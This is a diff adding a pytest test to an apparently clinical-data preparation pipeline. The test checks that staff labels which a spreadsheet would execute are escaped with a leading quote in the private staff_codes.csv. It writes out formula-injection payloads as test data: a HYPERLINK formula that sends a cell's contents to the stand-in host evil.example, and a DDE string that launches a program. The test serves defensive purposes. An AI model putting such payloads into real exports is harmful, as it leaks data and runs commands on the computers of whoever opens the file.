@@ -145,3 +145,27 @@ def test_stage_writes_tables_metrics_and_private_staff_codes(
     assert set(episodes["clinic"]) <= set(codes["code"])
     err = capsys.readouterr().err
     assert "PAT-" not in err and "EPI-" not in err
+
+
+def test_staff_labels_a_spreadsheet_would_execute_are_neutralised(
+    hand_params, tmp_path, monkeypatch
+):
+    monkeypatch.setenv("BONTA_PSEUDONYM_KEY", "stage-key")
+    tables = handmade.tables()
+    labels = {
+        "Clinic Nord": '=HYPERLINK("http://evil.example/?"&A1,"Clinic Nord")',
+        "Dr. Alpha": "+cmd|' /C calc'!A0",
+        "Dr. Beta": "-2+3",
+    }
+    for col in ("clinic_id", "injector_id"):
+        tables["treatments"][col] = tables["treatments"][col].replace(labels)
+    raw = handmade.write(tables, tmp_path / "raw")
+    par = tmp_path / "params.yaml"
+    par.write_text(yaml.safe_dump(hand_params))
+    private = tmp_path / "private"
+    args = ["prepare", "--params", str(par), "--input", str(raw)]
+    args += ["--out", str(tmp_path / "processed"), "--private", str(private)]
+    assert main(args) == 0
+    cells = set(pd.read_csv(private / "staff_codes.csv")["label"])
+    assert {"'" + label for label in labels.values()} <= cells
+    assert "Clinic Sued" in cells and "Dr. Gamma" in cells
